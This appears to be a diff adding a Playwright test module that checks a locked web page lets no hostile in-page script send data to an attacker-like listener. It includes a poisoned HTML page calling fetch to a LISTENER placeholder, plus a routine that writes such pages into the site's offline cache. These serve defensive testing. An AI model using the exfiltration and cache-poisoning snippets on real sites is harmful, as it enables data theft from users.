@@ -1,0 +1,289 @@
+"""The seal and the lock: hostile code in the page gets nothing out, whether it runs after the lock or before.
+
+The listener plays the other machine. A channel passes when it is refused where it is tried, or cannot be seen to have
+worked, and in either case nothing whatever has reached the listener, nor the page's own host, and nothing of it
+outlives the page: no other window, address, history or store.
+
+The page has no engine here, which these tests do not need, and is in a browser profile that is kept on disk: in a
+profile that is not, Chromium follows no hint to connect, and those channels could not fail.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import shutil
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import build_site
+import pytest
+from chromium import CHROMIUM_FLAGS
+from playwright.sync_api import Browser, BrowserContext, Page
+from playwright.sync_api import Error as BrowserError
+
+from tests.browser.channels import BETWEEN, HELPERS, PAGE, PAGE_HELPERS, aimed
+from tests.browser.conftest import FIXTURES, Host, Listener, serving
+
+UNKNOWN = "SENT: 'unknown'"
+LOCKED = "html[data-locked=yes]"
+KEPT_OFFLINE = "html[data-offline=yes]"
+NOTICE = 1.2
+"""Seconds until the listener has noted a connection over which nothing is said."""
+
+STAYS = """JSON.stringify([
+  location.href, history.state, globalThis.name || "", globalThis.navigation?.currentEntry.getState() ?? null,
+])"""
+"""What of a page its tab keeps."""
+
+KEPT = """async () => {
+  const kept = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie];
+  for (const { name } of await indexedDB.databases()) kept.push(`database ${name}`);
+  for (const name of await caches.keys()) {
+    for (const { url } of await (await caches.open(name)).keys()) kept.push(`${name} ${url}`);
+  }
+  for await (const name of (await navigator.storage.getDirectory()).keys()) kept.push(`file ${name}`);
+  for (const name of await navigator.storageBuckets.keys()) kept.push(`bucket ${name}`);
+  const { navigationPreload } = await navigator.serviceWorker.ready;
+  kept.push(JSON.stringify(await navigationPreload.getState()));
+  return kept.filter((each) => each.includes("leak"));
+}"""
+
+
+def poison() -> str:
+    """A module that does what ``before`` says of the attack that the page is under, and tells what it came upon."""
+    ways = ",\n".join(f"{json.dumps(name)}: async () => {{ {each['before']} }}" for name, each in BETWEEN.items())
+    return f"""{HELPERS}{PAGE_HELPERS}
+      globalThis.found = {STAYS};
+      const ways = {{ {ways} }};
+      try {{ globalThis.kept = await ways[globalThis.attack]?.(); }}
+      catch (error) {{ globalThis.refusal = String(error.message ?? error); }}"""
+
+
+@pytest.fixture(scope="module")
+def host(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Host]:
+    """A release, properly built, whose page has a poisoned module and whose engine is empty."""
+    folder = tmp_path_factory.mktemp("poisoned")
+    runtime, shell, made = folder / "runtime", folder / "shell", folder / "site"
+    runtime.mkdir()
+    for file in (site / build_site.RUNTIME).iterdir():
+        (runtime / file.name).write_bytes(gzip.compress(b"") if file.suffix == ".bin" else b"")
+    shutil.copytree(FIXTURES / "shell", shell)
+    shutil.copytree(FIXTURES / "poisoned", shell, dirs_exist_ok=True)
+    (shell / "src/poison.js").write_text(poison(), encoding="utf-8")
+    build_site.assemble(made, runtime, shell)
+    with serving(made) as host:
+        yield host
+
+
+@pytest.fixture(scope="module")
+def profile(chromium: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
+    """A browser with a profile on disk."""
+    context = chromium.browser_type.launch_persistent_context(
+        tmp_path_factory.mktemp("profile"), executable_path=shutil.which("chromium"), args=CHROMIUM_FLAGS
+    )
+    yield context
+    context.close()
+
+
+@pytest.fixture
+def page(profile: BrowserContext) -> Iterator[Page]:
+    """A tab in it. It, and what it opens, are closed after the test."""
+    page = profile.new_page()
+    yield page
+    for each in profile.pages[1:]:  # Without its first tab the browser would end.
+        each.close()
+
+
+@pytest.fixture(scope="module")
+def other(profile: BrowserContext, host: Host) -> Iterator[BrowserContext]:
+    """The browser when it has been at the page before."""
+    page = profile.new_page()
+    page.goto(host.url)
+    page.wait_for_selector(KEPT_OFFLINE, state="attached")
+    page.close()
+    yield profile
+
+
+def run(page: Page, code: str) -> str:
+    """Run the body of an asynchronous function; how that ended. Nothing in the page that it may change is relied on."""
+    evaluate(
+        page,
+        f"""void (async () => {{
+          {HELPERS}{PAGE_HELPERS}
+          try {{ const sent = await (async () => {{ {code} }})(); globalThis.outcome = `SENT: '${{sent}}'`; }}
+          catch (error) {{ globalThis.outcome = String(error.message ?? error.type ?? error); }}
+        }})()""",
+    )
+    for _ in range(100):
+        if outcome := evaluate(page, "globalThis.outcome"):
+            return str(outcome)
+        time.sleep(0.05)
+    return "no answer"
+
+
+def evaluate(page: Page, expression: str) -> object:
+    """The value of an expression. As at a click of the user's: more is allowed then."""
+    session = page.context.new_cdp_session(page)
+    answer = session.send("Runtime.evaluate", {"expression": expression, "returnByValue": True, "userGesture": True})
+    session.detach()
+    return answer["result"].get("value")
+
+
+def lock(page: Page, host: Host) -> None:
+    """Go to the page, and wait until it has locked."""
+    page.goto(host.url)
+    page.wait_for_selector(LOCKED, state="attached")
+
+
+def assert_nothing_leaves(page: Page, host: Host, listener: Listener, name: str, code: str) -> None:
+    """Run code in the locked page, and close the page: what waits for its end is sent then."""
+    requests, pages, stays = len(host.requests), len(page.context.pages), evaluate(page, STAYS)
+    outcome = run(page, aimed(code, listener.url, host.url))
+    assert "SENT" not in outcome or outcome == UNKNOWN
+    assert [each.url for each in page.context.pages[pages:]] == []
+    assert page.url == host.url
+    assert evaluate(page, STAYS) == stays
+    page.close()
+    time.sleep(NOTICE if "preconnect" in name else 0.1)
+    assert listener.received == []
+    # The browser itself, not the page, looks whether sw.js has changed.
+    assert [request for request in host.requests[requests:] if request != "GET /sw.js"] == []
+
+
+@pytest.mark.parametrize("name", PAGE)
+def test_nothing_leaves_the_locked_page(page: Page, host: Host, listener: Listener, name: str) -> None:
+    lock(page, host)
+    assert_nothing_leaves(page, host, listener, name, PAGE[name])
+
+
+@pytest.mark.parametrize("name", BETWEEN)
+def test_nothing_of_before_the_lock_is_of_use_after(
+    other: BrowserContext, page: Page, host: Host, listener: Listener, name: str
+) -> None:
+    elsewhere = other.new_page()
+    elsewhere.goto(f"{host.url}config.json")
+    before = elsewhere.evaluate(KEPT)
+    page.add_init_script(f"globalThis.attack = {json.dumps(name)}")
+    lock(page, host)
+    code = f"if (globalThis.refusal) throw new Error(refusal); const {{kept}} = globalThis; {BETWEEN[name]['after']}"
+    assert_nothing_leaves(page, host, listener, name, code)
+    # What is kept is looked at from another page of the same host, since the locked page may not look.
+    assert elsewhere.evaluate(KEPT) == before
+    assert [cookie for cookie in other.cookies() if "leak" in cookie["name"]] == []
+
+
+def test_the_listener_would_hear_a_hint_to_connect(page: Page, host: Host, listener: Listener) -> None:
+    """The tests above can fail: from a page without the lock, a link element is enough to reach the listener."""
+    page.goto(f"{host.url}config.json")
+    hint = "const link = document.createElement('link'); link.rel = 'preconnect'; link.href = url; head.append(link)"
+    page.evaluate(f"(url) => {{ const {{ head }} = document; {hint} }}", listener.url)
+    time.sleep(NOTICE + 0.3)
+    assert listener.received
+
+
+def test_a_link_that_is_pointed_at_connects_to_nothing(page: Page, host: Host, listener: Listener) -> None:
+    lock(page, host)
+    run(page, aimed("const a = link('LISTENER'); a.append('leak'); document.body.prepend(a);", listener.url, host.url))
+    page.hover("text=leak")
+    with pytest.raises(BrowserError, match="Timeout"), page.context.expect_page(timeout=700):
+        page.click("text=leak", button="middle")
+    page.mouse.down()
+    page.mouse.move(300, 300)
+    page.mouse.up()
+    time.sleep(NOTICE)
+    assert listener.received == []
+
+
+def test_the_name_of_the_window_keeps_nothing(page: Page, host: Host) -> None:
+    lock(page, host)
+    run(page, "window.name = 'child=123';")
+    page.goto(f"{host.url}config.json")
+    assert page.evaluate("name") == ""
+
+
+def test_the_page_that_opened_this_one_hears_nothing(page: Page, host: Host, site_url: str) -> None:
+    page.goto(f"{site_url}config.json")
+    with page.expect_popup() as popup:
+        page.evaluate(
+            "(url) => { window.heard = []; onmessage = ({ data }) => heard.push(data); window.opened = open(url); }",
+            host.url,
+        )
+    opened = popup.value
+    opened.wait_for_selector(LOCKED, state="attached")
+    run(opened, "addEventListener('message', ({source}) => source.postMessage('an answer', '*'), true);")
+    assert "SENT" not in run(opened, "opener.postMessage('a word', '*');")
+    page.evaluate("opened.postMessage('a question', '*')")
+    time.sleep(0.2)
+    assert page.evaluate("heard") == []
+
+
+def test_a_page_in_a_frame_does_not_start(page: Page, host: Host, site_url: str) -> None:
+    page.goto(f"{site_url}config.json")
+    page.evaluate(
+        "(url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))", host.url
+    )
+    frame = page.frame_locator("iframe")
+    frame.locator("html[data-state=failed]").wait_for(state="attached", timeout=10_000)
+    assert "tab of its own" in frame.locator("#start-status").inner_text()
+    time.sleep(0.5)
+    assert frame.locator("html").get_attribute("data-locked") is None
+    assert frame.locator("html").evaluate("() => typeof globalThis.found") == "undefined", "no module of the page ran"
+
+
+def test_an_earlier_visit_leaves_nothing_for_the_next(page: Page, host: Host) -> None:
+    page.goto(f"{host.url}config.json")
+    page.evaluate(
+        """() => {
+          window.name = "child=123";
+          history.replaceState("child=123", "", "./?child=123#child=123");
+          navigation.updateCurrentEntry({ state: "child=123" });
+        }"""
+    )
+    page.reload()
+    page.wait_for_selector(LOCKED, state="attached")
+    assert json.loads(page.evaluate("found")) == [host.url, None, "", None], "while the page was not yet locked"
+    assert page.url == host.url
+
+
+POISONED = (
+    """<!doctype html><html data-state="failed"><script>fetch("LISTENER", { mode: "no-cors" });</script></html>"""
+)
+
+PUT = """async ([path, text]) => {
+  const names = (await caches.keys()).filter((name) => name.startsWith("lac-validator "));
+  const another = `${names[0].slice(0, names[0].lastIndexOf(" "))} ${"0".repeat(64)}`;
+  for (const name of [...names, another]) {
+    const response = new Response(text, { headers: { "Content-Type": "text/html" } });
+    await (await caches.open(name)).put(new URL(path, location), response);
+  }
+}"""
+
+
+@pytest.mark.parametrize("path", ["index.html", "manifest.json"])
+@pytest.mark.parametrize("online", [True, False], ids=["online", "offline"])
+def test_a_page_poisoned_where_it_is_kept_is_not_served(
+    chromium: Browser, host: Host, listener: Listener, path: str, online: bool
+) -> None:
+    context = chromium.new_context()
+    page = context.new_page()
+    page.goto(host.url)
+    page.wait_for_selector(KEPT_OFFLINE, state="attached")
+    # Any page of the same host may write to what is kept.
+    page.goto(f"{host.url}config.json")
+    text = aimed(POISONED, listener.url, host.url)
+    for each in {path, "index.html"}:
+        page.evaluate(PUT, [each, text])
+    context.set_offline(not online)
+    try:
+        page.goto(host.url)
+    except BrowserError as error:  # Without a network there may be nothing to show.
+        assert not online, error
+    if online:
+        page.wait_for_selector("html[data-locked=yes], html[data-state=failed]", state="attached")
+        assert page.get_attribute("html", "data-locked") == "yes"
+    time.sleep(0.3)
+    assert "mode: " not in page.content()
+    assert listener.received == []
+    context.close()
